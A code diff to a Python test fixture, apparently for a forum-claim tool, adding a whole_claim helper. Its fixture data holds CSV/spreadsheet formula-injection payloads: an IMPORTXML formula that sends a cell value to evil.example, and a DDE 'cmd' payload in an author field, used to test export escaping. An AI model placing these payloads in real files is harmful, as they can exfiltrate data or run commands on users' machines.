@@ -44,6 +44,19 @@ RELATIONS = [
 START = datetime(2013, 6, 24, 9, 0, tzinfo=UTC)
 
 
+def whole_claim(post_id: str, text: str) -> Claim:
+    """A claim whose quote and paraphrase are the whole of its post's ``text``."""
+    return Claim(
+        id=claim_id(post_id, 0, len(text)),
+        post_id=post_id,
+        text=text,
+        quote=text,
+        start=0,
+        end=len(text),
+        extractor="test",
+    )
+
+
 def nasty_thread(
     tid: str = "t_nasty",
     title: str = 'Thinking of <Joining> the "ISO"? & more',
@@ -183,17 +196,7 @@ def write_formulas(store: Store, tid: str = "t_formulas") -> Nasty:
     said = '=IMPORTXML("http://evil.example/?q="&A1, "//a") is what the article says.'
     article = thread.posts[0].model_copy(update={"author": "=cmd|' /C calc'!A0", "text": said})
     posts = [article]
-    claims = [
-        Claim(
-            id=claim_id(article.id, 0, len(said)),
-            post_id=article.id,
-            text=said,
-            quote=said,
-            start=0,
-            end=len(said),
-            extractor="test",
-        )
-    ]
+    claims = [whole_claim(article.id, said)]
     for i, text in enumerate(FORMULAS, 1):
         post = Post(
             id=f"{tid}_p{i}",
@@ -206,17 +209,7 @@ def write_formulas(store: Store, tid: str = "t_formulas") -> Nasty:
             parent_id=article.id,
         )
         posts.append(post)
-        claims.append(
-            Claim(
-                id=claim_id(post.id, 0, len(text)),
-                post_id=post.id,
-                text=text,
-                quote=text,
-                start=0,
-                end=len(text),
-                extractor="test",
-            )
-        )
+        claims.append(whole_claim(post.id, text))
     thread = thread.model_copy(update={"posts": posts})
     rels = [
         Relation(
